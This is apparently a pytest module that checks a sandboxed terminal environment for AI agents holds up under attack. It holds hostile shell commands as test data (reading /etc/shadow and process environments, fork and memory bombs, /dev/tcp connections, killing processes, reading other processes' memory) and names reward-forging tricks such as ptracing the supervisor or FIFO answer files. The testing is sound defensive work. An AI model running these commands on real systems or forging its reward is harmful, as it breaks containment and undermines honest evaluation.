"""Hostile shell commands against the Terminal env: each one must be contained, to the standard of the
Python tool's held-out set (tests/tools/test_python_security.py, whose canaries and loopback servers
this module reuses).

Every command runs with a 5 s limit and must come back with a readable observation (a hang guard of
ten times that: the machine may be loaded); no canary (a host file's content, a host environment
variable) may appear in any observation; the host's files, servers and processes are checked from
outside; afterwards the env still runs a command, and once it is closed none of its sandbox's
processes is left.

Then the reward itself (issue 49): a hostile model that answers for the sandbox's supervisor, traces
its pid 1 or the checker, or reads their memory, must still score 0, with the host running as root
and as an unprivileged user (``terminal_attack_child.py``, started under ``setpriv``); and the limits
of a sandbox hold for all its processes together: nothing runs between commands, memory and files are
counted across processes, the status pipe cannot grow the supervisor.
"""

from __future__ import annotations

import json
import os
import platform
import random
import shutil
import site
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "tools"))
sys.path.insert(0, str(Path(__file__).resolve().parent))  # terminal_attack_child's attack programs

from hostile_snippets import FILE_SECRET, LEAK_FILE, SECRET, SECRET_VAR, Host, hostile_host  # noqa: E402
from sandbox_support import require_bwrap  # noqa: E402

import gem_core  # noqa: E402
from gem_core.core import MAX_OBSERVATION_CHARS  # noqa: E402
from gem_core.envs.terminal.shell import living_sandbox_processes  # noqa: E402

TIMEOUT = 5.0  # room for a loaded machine: the contract is that the limit kills, not how fast it comes
HANG_GUARD = 10 * (TIMEOUT + 5.0)  # the env's own margin is 5 s over the limit
REPO = Path(__file__).resolve().parents[2]
ATTACK_CHILD = Path(__file__).resolve().parent / "terminal_attack_child.py"


@dataclass
class Attack:
    name: str
    command: str
    check: Callable[[str, dict, Host], None]
    env_kwargs: dict = field(default_factory=dict)


ATTACKS: list[Attack] = []


def attack(name: str, command: str, **env_kwargs):
    def register(check):
        ATTACKS.append(Attack(name, command, check, env_kwargs))
        return check

    return register


# -- files
@attack("read a canary file and list its dir", "cat CANARY_FILE; ls CANARY_DIR; echo end")
def _(obs, info, host):
    assert obs.count("No such file or directory") == 2  # and neither the content nor a listing came back


@attack(
    "read /etc/shadow, /etc/passwd, the repo and the host's home",
    f"for p in /etc/shadow /etc/passwd {REPO}/pyproject.toml /root/.bashrc; do if head -c 40 $p 2>/dev/null; then echo READ $p; else echo denied $p; fi; done; "
    f"ls {REPO} {Path.home()} 2>&1 | head -n 3",
)
def _(obs, info, host):
    assert "READ" not in obs and obs.count("denied") == 4 and "root:x" not in obs and "[project]" not in obs
    # At most the empty parents of the read-only interpreter mount: none of the repo's or the home's files.
    # (a checkout under /tmp is not there at all: the sandbox's /tmp is its own)
    listing = [line for line in obs.split("denied /root/.bashrc\n", 1)[1].splitlines()[:-1] if not line.endswith("No such file or directory")]
    assert set(listing) <= {"/root:", "", f"{REPO}:", f"{Path.home()}:"}, listing


@attack(
    "write into a host dir and into system dirs",
    "for p in CANARY_DIR/pwned /usr/gem_pwned /gem_pwned /etc/gem_pwned /bin/gem_pwned; do (echo x > $p) 2>/dev/null && echo WROTE $p; done; echo end",
)
def _(obs, info, host):
    assert "WROTE" not in obs and not (host.canary_dir / "pwned").exists() and not Path("/usr/gem_pwned").exists()


@attack("leave a file in /tmp", f"echo state > {LEAK_FILE} && echo LEFT")
def _(obs, info, host):
    assert "LEFT" in obs and not Path(LEAK_FILE).exists()  # the sandbox's own /tmp, not the host's


@attack(
    "fill the disk: a huge file, then many files",
    "head -c 200M /dev/zero > big; echo big $?; for i in 1 2 3 4 5 6 7 8; do head -c 15M /dev/zero > f$i || break; done; df -m /app | tail -n 1",
    disk_mb=24,  # ENOSPC after 24 MB written, not 64: the same contract with less I/O on a loaded machine
)
def _(obs, info, host):
    assert "File too large" in obs and "No space left on device" in obs


# -- network
@attack(
    "TCP connect to the host's loopback server",
    "(exec 3<>/dev/tcp/127.0.0.1/TCP_PORT && echo CONNECTED) 2>&1; curl -s -m 1 http://127.0.0.1:TCP_PORT/ && echo CURLED; echo end",
)
def _(obs, info, host):
    assert "CONNECTED" not in obs and "CURLED" not in obs and host.tcp_hits == []


@attack("UDP datagram to the host's loopback server", "echo leak > /dev/udp/127.0.0.1/UDP_PORT; sleep 0.2; echo end")
def _(obs, info, host):
    assert host.udp_hits == []


@attack("network interfaces", "cat /proc/net/dev")
def _(obs, info, host):
    names = [line.split(":")[0].strip() for line in obs.splitlines() if ":" in line and "|" not in line and "exit code" not in line]
    assert names == ["lo"]


# -- processes and resources
@attack("fork bomb", ":(){ :|:& };:; sleep 1; echo survived")
def _(obs, info, host):
    assert info.get("timed_out") or "survived" in obs or "fork" in obs


@attack("memory bomb in bash", "s=x; while :; do s=$s$s; done")
def _(obs, info, host):
    assert info.get("timed_out") or "shell exited" in obs or "cannot allocate" in obs


@attack(
    "memory bomb: one 8 GiB allocation", "command -v python3 > /dev/null || echo NO-PYTHON; python3 -c 'x = bytearray(8 * 1024 ** 3); print(\"ALLOCATED\")'"
)
def _(obs, info, host):
    assert "ALLOCATED" not in obs and ("MemoryError" in obs or "NO-PYTHON" in obs)


@attack("infinite loop", "while :; do :; done")
def _(obs, info, host):
    assert info["timed_out"] and "killed" in obs


@attack("sleep past the limit", "sleep 60; echo WOKE")
def _(obs, info, host):
    assert info["timed_out"] and "WOKE" not in obs


@attack("huge output", "yes | head -c 64000000")
def _(obs, info, host):
    assert info["truncated"] and len(obs) < 5000


@attack("signal the host process", "kill -9 HOST_PID && echo KILLED HOST; echo end")
def _(obs, info, host):
    assert "KILLED HOST" not in obs


@attack("signal the supervisor (pid 1)", "for s in INT TERM HUP USR1 SEGV STOP KILL; do kill -$s 1; done; echo sent")
def _(obs, info, host):
    assert "sent" in obs  # and the next command still runs: the supervisor took none of them


@attack("kill every process it can", "kill -9 -1; echo end")
def _(obs, info, host):
    # The agent's own shell dies; its supervisor is out of reach (root host) or the episode ends.
    assert "shell exited" in obs or "sandbox is gone" in obs or "end" in obs


@attack("become root, make a user namespace, mount", "unshare -U true && echo UNSHARED; mount -t tmpfs none /mnt 2>/dev/null && echo MOUNTED; id -u")
def _(obs, info, host):
    assert "UNSHARED" not in obs and "MOUNTED" not in obs and "\n0\n" not in "\n" + obs


@attack(
    "devices and kernel interfaces",
    "for p in /dev/mem /dev/sda /dev/vda /proc/kcore /sys/kernel/notes; do head -c 1 $p > /dev/null 2>&1 && echo READ $p; done; echo end",
)
def _(obs, info, host):
    assert "READ" not in obs


# -- secrets and snooping
@attack("read the environment of every process", "env; for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done 2>&1 | head -c 3000")
def _(obs, info, host):
    assert SECRET_VAR not in obs


@attack("/proc snooping", "ls /proc | grep -c '^[0-9]'")
def _(obs, info, host):
    # bwrap's init, the supervisor, the shell, ls and grep (and the subshell): nothing of the host
    assert int(obs.split()[0]) <= 8


@attack(
    "read the supervisor's memory",
    # One byte at the first mapped address of each process (offset 0 is never mapped: it reads nothing anywhere).
    'for p in /proc/[0-9]*; do a=$(head -n 1 $p/maps 2>/dev/null | cut -d- -f1); [ -n "$a" ] || continue; '
    '[ "$(dd if=$p/mem bs=1 skip=$((16#$a)) count=1 status=none 2>/dev/null | wc -c)" = 1 ] && echo READ $p $(cat $p/comm); done; echo end',
)
def _(obs, info, host):
    read = [line for line in obs.splitlines() if line.startswith("READ /proc/")]
    assert read  # the agent's own processes: the attack does read mapped memory
    assert not [line for line in read if "python" in line], read  # not the supervisor's (a Python program)


@pytest.fixture(scope="module")
def host():
    require_bwrap()
    with hostile_host() as h:
        yield h


def sandbox_processes() -> list[int]:
    """Living processes of this test process's terminal sandboxes (not the Python tool's pool workers)."""
    return living_sandbox_processes()


def step(env, command: str):
    started = time.monotonic()
    obs, reward, terminated, truncated, info = env.step(f"```bash\n{command}\n```")
    assert time.monotonic() - started < HANG_GUARD
    assert SECRET not in obs and FILE_SECRET not in obs, obs[:500]
    assert len(obs) <= MAX_OBSERVATION_CHARS
    return obs, reward, terminated, truncated, info


@pytest.mark.parametrize("hostile", ATTACKS, ids=[a.name for a in ATTACKS])
def test_hostile_command_is_contained(host, hostile):
    env = gem_core.make("terminal:Tasks-v0", task="count-errors", command_timeout=TIMEOUT, **hostile.env_kwargs)  # made while the canary is set
    env.reset(seed=0)
    try:
        obs, _reward, terminated, _truncated, info = step(env, host.fill(hostile.command))
        hostile.check(obs, info, host)
        if not terminated:  # the env goes on: the next command runs normally
            obs, *_ = step(env, "echo $((6 * 7))")
            # (after a fork bomb, bash may first say "fork: retry" while the bomb's leftovers hold the process limit)
            assert "42\n" in obs and obs.endswith("[exit code: 0]"), obs
    finally:
        env.close()
    assert sandbox_processes() == []


def test_at_least_20_hostile_commands():
    assert len(ATTACKS) >= 20


def test_background_processes_die_with_the_episode(host):
    env = gem_core.make("terminal:Tasks-v0", task="count-errors", command_timeout=TIMEOUT)
    env.reset(seed=0)
    # (the command waits until the daemon is `sleep 1000`: between commands the agent's processes are stopped where they are)
    step(
        env,
        "setsid nohup sleep 1000 > /dev/null 2>&1 & until grep -qs 1000 /proc/$!/cmdline; do :; done; (while :; do sleep 0.1; done &) ; disown -a; echo started",
    )
    assert sandbox_processes()  # bwrap, the sandbox's init, the supervisor
    assert [pid for pid in _host_pids() if b"sleep\x001000" in _cmdline(pid)]  # the daemon runs
    # The checker runs only after the agent's processes are gone; the end of the episode ends the sandbox.
    env.step("submit")
    assert sandbox_processes() == []
    assert not [pid for pid in _host_pids() if b"sleep\x001000" in _cmdline(pid)]


def _host_pids() -> list[int]:
    return [int(p) for p in os.listdir("/proc") if p.isdigit()]


def _cmdline(pid: int) -> bytes:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return b""


# -- the reward cannot be forged (issue 49) -----------------------------------------------------------

FORGING = [
    "forge-reply", "forge-extra-key", "ptrace-pid-1", "read-memory", "checker-exit-zero", "python-tool-ptrace",
    # issue 63: answer files as FIFOs answered by a leftover process from the checker's command line;
    # scripts the checker runs that read its script, know its fixed input, or lower its open-file limit
    "fifo-count-errors", "fifo-csv-field", "fifo-largest-file", "script-reads-checker", "sum-reads-checker", "sum-hard-coded",
    "prlimit-checker",
]  # fmt: skip
# Attacks on the sandbox's limits (issue 63), each with its own assertions below.
CONTAINED = ["prlimit-pid-1", "zombie-between-commands", "zombie-time-limit", "zombie-memory", "zombie-cpu", "forge-exit-code", "capabilities"]
UNPRIVILEGED = ["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups"]


def _child_command(unprivileged: bool) -> tuple[list[str], dict[str, str]]:
    """How to start terminal_attack_child.py: as this process's user, or as ``nobody`` through setpriv
    (this process must be root), with an interpreter and a gem_core that user can reach."""
    env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": "/tmp", "PYTHONPATH": os.pathsep.join([str(REPO), *site.getsitepackages()])}
    if not unprivileged:
        return [sys.executable, str(ATTACK_CHILD)], env
    if os.geteuid() != 0:
        pytest.skip("this test process is not root: the attacks above already ran as an unprivileged user")
    if shutil.which("setpriv") is None:
        pytest.skip("setpriv (util-linux) is not installed: cannot start the env as an unprivileged user")
    version = f"python{sys.version_info.major}.{sys.version_info.minor}"
    reasons = []
    # This interpreter, or the system's one of the same version (a virtualenv under /root is out of nobody's reach).
    for python in dict.fromkeys([sys.executable, f"/usr/bin/{version}", f"/usr/local/bin/{version}"]):
        probe = subprocess.run(
            [*UNPRIVILEGED, "env", "-i", *(f"{k}={v}" for k, v in env.items()), python, "-c", "import gem_core"], capture_output=True, text=True
        )
        if probe.returncode == 0:
            return [*UNPRIVILEGED, "env", "-i", *(f"{k}={v}" for k, v in env.items()), python, str(ATTACK_CHILD)], env
        reasons.append(f"{python}: {probe.stderr.strip()[-120:]}")
    pytest.skip(f"no interpreter that nobody can run imports this checkout's gem_core ({'; '.join(reasons)})")


@pytest.fixture(scope="module", params=[False, True], ids=["host-user", "unprivileged-host"])
def forging(request):
    require_bwrap()
    if platform.machine() != "x86_64":
        pytest.skip("the ptrace attack programs set x86_64 registers")
    if not os.access("/usr/bin/python3", os.X_OK):
        pytest.skip("the attack programs run with the sandbox's /usr/bin/python3, which this machine lacks")
    argv, env = _child_command(request.param)
    done = subprocess.run([*argv, *FORGING, *CONTAINED], capture_output=True, text=True, env=env, cwd="/tmp", timeout=600)
    assert done.returncode == 0, done.stderr[-2000:]
    return json.loads(done.stdout)


@pytest.mark.parametrize("name", FORGING)
def test_the_reward_cannot_be_forged(forging, name):
    result = forging[name]
    transcript = "\n---\n".join(result["observations"])
    assert result["exception"] is None, result["exception"]  # never a crash from the model's output
    assert all(reward <= 0 for reward in result["rewards"]) and not result["success"], transcript
    assert "ATTACHED" not in transcript and "FORCED" not in transcript, transcript
    read = [line for line in transcript.splitlines() if line.startswith("READ-MEMORY")]
    assert not [line for line in read if "python" in line], read  # never the supervisor's (a Python program)
    if name == "read-memory":
        assert "bash" in " ".join(read)  # the agent's own shell: the program does read a mapped address
    if name == "python-tool-ptrace":
        assert transcript.count("refused 1\n") == 2  # bwrap's init, from a snippet and from a test case


def _played(forging, name) -> tuple[dict, str]:
    result = forging[name]
    assert result["exception"] is None, result["exception"]
    return result, "\n---\n".join(result["observations"])


def test_the_supervisors_limits_are_out_of_the_agents_reach(forging):
    """``prlimit --pid 1 --nofile=8`` and ``renice -p 1`` after an honest solution: a supervisor of the
    agent's uid (the host is not root) took them and died (reward -0.1, "sandbox lost"). Pid 1 of the
    agent's processes is now their own init; the supervisor has no pid they can name."""
    result, transcript = _played(forging, "prlimit-pid-1")
    assert not any(info["sandbox_lost"] for info in result["infos"]), transcript
    assert result["success"] and result["rewards"][-1] == 1.0, transcript


def test_the_agents_processes_hold_no_capability(forging):
    """When the host is not root the supervisor keeps CAP_SYS_ADMIN and CAP_SETPCAP in the sandbox's user
    namespace (to give the agent's processes a PID namespace of their own): none of it reaches them, not
    even in their bounding set."""
    result, transcript = _played(forging, "capabilities")
    caps = [line.split() for line in result["observations"][0].splitlines() if line.startswith("Cap")]
    assert len(caps) == 10, transcript
    assert all(int(value, 16) == 0 for _name, value in caps), transcript


def test_a_zombie_leader_does_not_run_between_commands(forging):
    """A process whose main thread has ended (its leader shows Z) while another thread appends a line
    every 10 ms: between two commands the host waits 1 s; the file must not grow meanwhile."""
    result, transcript = _played(forging, "zombie-between-commands")
    before, after = (int(obs.split()[0]) for obs in result["observations"][:2])
    assert before > 5 and after - before < 20, transcript


def test_a_zombie_leader_dies_with_the_time_limit(forging):
    result, transcript = _played(forging, "zombie-time-limit")
    assert result["infos"][0]["timed_out"], transcript
    assert result["observations"][1].split()[0] == "0", transcript  # nothing appends to the file any more


def test_a_zombie_leaders_memory_is_counted(forging):
    """Six zombie-leader processes holding 150 MB each in a sandbox of 256 MB: /proc/PID/statm reads 0
    for a zombie leader; the memory is its threads'."""
    result, transcript = _played(forging, "zombie-memory")
    assert result["infos"][0]["limit"] == "memory" and "ALL-DONE" not in transcript, transcript


def test_a_zombie_leaders_cpu_is_counted(forging):
    """Four zombie-leader processes spinning in a sandbox of 2 CPU-seconds a command: each dies at its own 2
    CPU-seconds (RLIMIT_CPU), so only the sum over the sandbox's processes stops the command."""
    result, transcript = _played(forging, "zombie-cpu")
    info = result["infos"][0]
    assert info["limit"] == "cpu" and not info["timed_out"] and "ALL-DONE" not in transcript, transcript


def test_a_forged_exit_code_is_bounded(forging):
    """A DEBUG trap writes the shell's status line itself, with a code of 200 digits."""
    result, transcript = _played(forging, "forge-exit-code")
    codes = [info["exit_code"] for info in result["infos"][:-1]]
    assert all(code is None or 0 <= code <= 255 for code in codes), codes
    assert "0000000000" not in transcript, transcript


@pytest.fixture(scope="module", params=[False, True], ids=["host-user", "unprivileged-host"])
def tmp_interpreter(request):
    """The attack child started with an interpreter under /tmp (a link to the one it would use): the
    sandbox then binds it at that path, below a directory it makes on its own writable /tmp."""
    require_bwrap()
    if platform.machine() != "x86_64":
        pytest.skip("the ptrace attack program sets x86_64 registers")
    if not os.access("/usr/bin/python3", os.X_OK):
        pytest.skip("the attack programs run with the sandbox's /usr/bin/python3, which this machine lacks")
    argv, env = _child_command(request.param)
    at = argv.index(str(ATTACK_CHILD)) - 1
    top = Path(tempfile.mkdtemp(prefix="gem-interp-", dir="/tmp"))
    try:
        top.chmod(0o755)
        (top / "env" / "bin").mkdir(parents=True)
        link = top / "env" / "bin" / "python3"
        link.symlink_to(argv[at])
        argv[at] = str(link)
        done = subprocess.run([*argv, "interpreter-under-tmp"], capture_output=True, text=True, env=env, cwd="/tmp", timeout=600)
    finally:
        shutil.rmtree(top, ignore_errors=True)
        shutil.rmtree(f"{top}.moved", ignore_errors=True)
    assert done.returncode == 0, done.stderr[-2000:]
    return json.loads(done.stdout)["interpreter-under-tmp"]


def test_no_agent_writable_directory_leads_to_the_interpreter(tmp_interpreter):
    """The agent moves the directory above the interpreter's (bwrap made it on the sandbox's /tmp, as the
    agent's uid when the host is not root) and plants its own ``python`` there; the old checker's
    ``agent`` started it unconfined, and it traced the checker into exit 0 (issue 63, finding 4)."""
    result = tmp_interpreter
    transcript = "\n---\n".join(result["observations"])
    assert result["exception"] is None, result["exception"]
    assert all(reward <= 0 for reward in result["rewards"]) and not result["success"], transcript
    assert "ATTACHED" not in transcript and "FORCED" not in transcript, transcript
    assert "planted 0" not in transcript, transcript  # the directory cannot be moved, nor the interpreter replaced


# -- answer files: regular files only, read without following links or blocking (issue 63) -----------


@pytest.mark.parametrize(
    ("kind", "task", "command"),
    [
        ("symlink", "count-errors", "grep -c ERROR app.log > /tmp/right; rm -f error_count.txt; ln -s /tmp/right error_count.txt"),
        ("oversize", "count-errors", "{ grep -c ERROR app.log; head -c 2000000 /dev/zero | tr '\\0' ' '; } > error_count.txt"),
        ("fifo", "count-errors", "rm -f error_count.txt; mkfifo error_count.txt"),
        ("directory", "count-errors", "rm -f error_count.txt; mkdir error_count.txt"),
        # the right tree, made under /tmp, and a link to it where it belongs
        ("symlinked directory", "make-tree", "mkdir -p /tmp/p/src /tmp/p/tests /tmp/p/docs && echo '# Project' > /tmp/p/README.md && ln -s /tmp/p project"),
    ],
)
def test_an_answer_that_is_not_a_plain_file_or_directory_is_wrong(host, kind, task, command):
    """An answer that is a link (or lies below one), a FIFO, a directory where a file belongs or a file over
    the size bound is a wrong answer (reward 0), at once: the checker never follows a link nor waits on
    a FIFO. Before issue 63, the link and the oversize file passed, and the FIFO held the checker."""
    # a checker that waited on the FIFO would take its whole time limit (30 s); one that does not takes
    # milliseconds: half the limit tells them apart on a loaded machine too
    env = gem_core.make("terminal:Tasks-v0", task=task, command_timeout=TIMEOUT, check_timeout=30.0)
    env.reset(seed=0)
    try:
        obs, *_ = step(env, command)
        started = time.monotonic()
        obs, reward, terminated, _truncated, info = env.step("submit")
        took = time.monotonic() - started
    finally:
        env.close()
    assert terminated and reward == 0.0 and not info["success"], (kind, obs, info)
    assert took < 15.0, f"the checker took {took:.1f} s on a {kind}"


def test_the_honest_answer_passes_as_a_regular_file(host):
    env = gem_core.make("terminal:Tasks-v0", task="count-errors", command_timeout=TIMEOUT)
    env.reset(seed=0)
    try:
        step(env, "grep -c ERROR app.log > /tmp/n; cp /tmp/n error_count.txt")
        assert env.step("submit")[1] == 1.0
    finally:
        env.close()


def test_no_process_of_the_agents_is_alive_while_the_checker_runs(host):
    """A zombie-leader process appends to a file every 10 ms (the old supervisor's kill before the checker
    skipped it); the checker then runs a program that counts the lines twice, 0.3 s apart: nothing may
    have been added meanwhile."""
    if not os.access("/usr/bin/python3", os.X_OK):
        pytest.skip("the leftover process is the sandbox's /usr/bin/python3, which this machine lacks")
    from terminal_attack_child import ZOMBIE_LEADER, heredoc

    from gem_core.envs.terminal.shell import ShellSandbox
    from gem_core.envs.terminal.tasks import runs

    sandbox = ShellSandbox([]).start()
    try:
        obs = sandbox.run(heredoc("/tmp/z.py", ZOMBIE_LEADER) + "\npython3 /tmp/z.py tick & sleep 0.5; wc -l < /app/ticks", TIMEOUT).output
        assert int(obs.split()[0]) > 5, obs
        count = "a=$(wc -l < ticks); sleep 0.3; echo $(( $(wc -l < ticks) - a ))"
        result = sandbox.check([runs(["/bin/bash", "-c", count], "0")], 10.0)
    finally:
        sandbox.close()
    assert result.exit_code == 0, result


def test_checker_inputs_change_with_the_seed():
    """What a checker expects, and the inputs it gives the agent's scripts, are drawn per episode from the
    env's seed: a script written for one episode's numbers fails another's (issue 63, finding 2)."""
    from gem_core.envs.terminal.tasks import TASKS

    for task in TASKS:
        if task.name in ("make-tree", "fix-permissions"):  # nothing to compute: the instruction names the answer
            continue
        seen = {json.dumps(task.build(random.Random(seed)).checks, sort_keys=True) for seed in range(12)}
        assert len(seen) >= 8, task.name
        # the same seed, the same episode
        assert task.build(random.Random(7)) == task.build(random.Random(7)), task.name


def test_a_malformed_reply_is_an_infra_error_not_an_exception():
    """The host checks every reply: an unknown key, a wrong type, a reply too long are each one clear
    infra error, in info, with reward 0 (a stand-in supervisor sends them)."""
    from gem_core.envs.terminal.shell import CHECK_REPLY, RUN_REPLY, ShellSandbox, validate_reply
    from gem_core.errors import INFRA_ERROR

    good = {"output": "", "exit_code": 0, "timed_out": False, "shell_exited": False, "truncated": False, "restarted": False, "limit": None}
    assert validate_reply(good, RUN_REPLY) is None
    assert "unknown" in validate_reply({**good, "evil": 1}, RUN_REPLY)
    assert "exit_code" in validate_reply({**good, "exit_code": "0"}, RUN_REPLY)
    assert "timed_out" in validate_reply({**good, "timed_out": 0}, RUN_REPLY)
    assert validate_reply([good], RUN_REPLY) is not None and validate_reply({"output": "", "exit_code": True, "timed_out": False}, CHECK_REPLY)
    replies = [  # as Python expressions, for the stand-in's command line
        repr(json.dumps({**good, "evil": 1})),
        repr(json.dumps({"output": "", "exit_code": 0, "timed_out": "no"})),
        "'x' * (1 << 21)",
        repr("[1, 2]"),
    ]
    for reply in replies:
        env = gem_core.make("terminal:Tasks-v0", task="count-errors")
        env.reset(seed=0)
        sandbox = ShellSandbox([], output_bytes=env.max_output_bytes)
        script = f"import sys\nsys.stdin.readline()\nsys.stdout.write({reply} + '\\n')\nsys.stdout.flush()\nsys.stdin.readline()\n"
        sandbox.proc = subprocess.Popen([sys.executable, "-c", script], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        os.set_blocking(sandbox.proc.stdout.fileno(), False)
        sandbox._buffer = b""
        env._sandbox, env.commands, env._replayed = sandbox, ["true"], 1
        try:
            obs, reward, terminated, _truncated, info = env.step("submit" if "no" in reply else "```bash\ntrue\n```")
        finally:
            env.close()
            sandbox.proc.wait(timeout=60)
        assert reward == 0.0 and terminated and not info["success"], (reply[:80], obs)
        assert "invalid reply" in info[INFRA_ERROR], info


# -- limits per sandbox, not per process -------------------------------------------------------------


def _stat_fields(pid: int) -> list[bytes]:
    try:
        return Path(f"/proc/{pid}/stat").read_bytes().rsplit(b")", 1)[1].split()
    except (OSError, IndexError):
        return []


def _supervisor_pid(env) -> int:
    return env._sandbox.init_pid


def _descendants(root: int) -> list[int]:
    children: dict[int, list[int]] = {}
    for pid in _host_pids():
        fields = _stat_fields(pid)
        if fields:
            children.setdefault(int(fields[1]), []).append(pid)
    found, todo = [], [root]
    while todo:
        for child in children.get(todo.pop(), []):
            found.append(child)
            todo.append(child)
    return found


def _cpu_seconds(pids: list[int]) -> float:
    ticks = os.sysconf("SC_CLK_TCK")
    return sum((int(f[11]) + int(f[12])) / ticks for f in map(_stat_fields, pids) if f)


def test_nothing_of_the_agent_runs_between_commands(host):
    env = gem_core.make("terminal:Tasks-v0", task="count-errors", command_timeout=TIMEOUT)
    env.reset(seed=0)
    try:
        burners = "(while :; do :; done) & (while :; do (while :; do :; done) & sleep 0.05; kill $! 2> /dev/null; done) & echo started"
        assert "started" in step(env, burners)[0]
        agent = _descendants(_supervisor_pid(env))
        assert len(agent) >= 3  # the shell and both burners
        before = _cpu_seconds(agent)
        for _ in range(10):  # whenever we look, while no command runs: every process of the agent's is stopped
            states = {pid: _stat_fields(pid)[0] for pid in _descendants(_supervisor_pid(env)) if _stat_fields(pid)}
            assert set(states.values()) <= {b"T", b"t", b"Z"}, states
            time.sleep(0.1)
        used = _cpu_seconds(agent) - before
        assert used < 0.05, f"the agent's processes used {used:.2f} CPU-seconds while no command ran"
        obs = step(env, "jobs -r")[0]  # and they go on with the next command
        assert obs.count("Running") == 2, obs
    finally:
        env.close()


def test_memory_is_counted_across_the_sandboxs_processes(host):
    if not os.access("/usr/bin/python3", os.X_OK):
        pytest.skip("the allocating processes are the sandbox's /usr/bin/python3, which this machine lacks")
    env = gem_core.make("terminal:Tasks-v0", task="count-errors", command_timeout=60.0, memory_mb=256)
    env.reset(seed=0)
    try:
        six = "for i in 1 2 3 4 5 6; do python3 -c 'import time; b = b\"x\" * (200 << 20); time.sleep(120)' & done; wait; echo ALL-DONE"
        obs, reward, terminated, _truncated, info = step(env, six)
        assert info["limit"] == "memory" and not info["timed_out"] and reward == env.timeout_reward and not terminated, obs
        assert "256 MB of memory together" in obs and "ALL-DONE" not in obs
        assert "42\n" in step(env, "echo $((6 * 7))")[0]
    finally:
        env.close()


def test_cpu_is_counted_across_the_sandboxs_processes(host):
    """Processes each under their own CPU limit (RLIMIT_CPU, 2 s) cannot together use more than the sandbox's
    CPU-seconds in one command: the command is ended, the episode goes on with a new shell."""
    env = gem_core.make("terminal:Tasks-v0", task="count-errors", command_timeout=60.0, cpu_seconds=2)
    env.reset(seed=0)
    try:
        burners = "for i in 1 2 3 4; do (while :; do :; done) & done; wait; echo ALL-DONE"
        obs, reward, terminated, _truncated, info = step(env, burners)
        assert info["limit"] == "cpu" and not info["timed_out"] and reward == env.timeout_reward and not terminated, obs
        assert "2 CPU-seconds together" in obs and "ALL-DONE" not in obs
        assert "42\n" in step(env, "echo $((6 * 7))")[0]
    finally:
        env.close()


def test_files_are_capped_per_tmpfs(host):
    env = gem_core.make("terminal:Tasks-v0", task="count-errors", command_timeout=60.0, disk_mb=1)
    env.reset(seed=0)
    cap = env.limits.max_inodes
    try:
        obs, _reward, terminated, _truncated, info = step(env, f"for i in $(seq {cap + 2000}); do {{ : > f$i; }} 2> /dev/null || break; done; ls | wc -l")
        if info.get("limit") == "files":  # counted (a host that is not root): the episode ends
            assert terminated and "files" in obs
        else:  # capped by the tmpfs itself (a root host)
            assert int(obs.splitlines()[-2]) <= cap, obs
    finally:
        env.close()


def test_the_status_pipe_cannot_grow_the_supervisor(host):
    env = gem_core.make("terminal:Tasks-v0", task="count-errors", command_timeout=60.0)
    env.reset(seed=0)
    try:
        step(env, "true")
        status = Path(f"/proc/{_supervisor_pid(env)}/status")
        rss = lambda: int(next(line for line in status.read_text().splitlines() if line.startswith("VmRSS:")).split()[1])  # noqa: E731
        before = rss()
        # 16 MiB without a newline to bash's saved copy of the status descriptor, which eval's commands reach
        obs = step(env, "x=$(printf '%01024d' 0); for i in $(seq 16384); do printf %s \"$x\" >&11; done; echo written")[0]
        assert "written" in obs, obs
        grown = (rss() - before) / 1024
        assert grown < 4, f"the supervisor grew by {grown:.1f} MiB"
    finally:
        env.close()


def test_the_supervisor_is_not_among_the_agents_processes(host):
    """The agent's processes have a PID namespace and a /proc of their own (issue 63): pid 1 is their own
    shell, and no process they can see is the supervisor or shows a host path."""
    env = gem_core.make("terminal:Tasks-v0", task="count-errors", command_timeout=TIMEOUT)
    env.reset(seed=0)
    try:
        obs = step(env, "for p in /proc/[0-9]*; do echo \"${p#/proc/}: $(tr '\\0' ' ' < $p/cmdline)\"; done")[0]
    finally:
        env.close()
    assert obs.startswith("1: /bin/bash --noprofile --norc"), obs
    for secret in (str(REPO), sys.prefix, "gem-sandbox-owner", "gem-terminal-supervisor", "python"):
        assert secret not in obs, obs
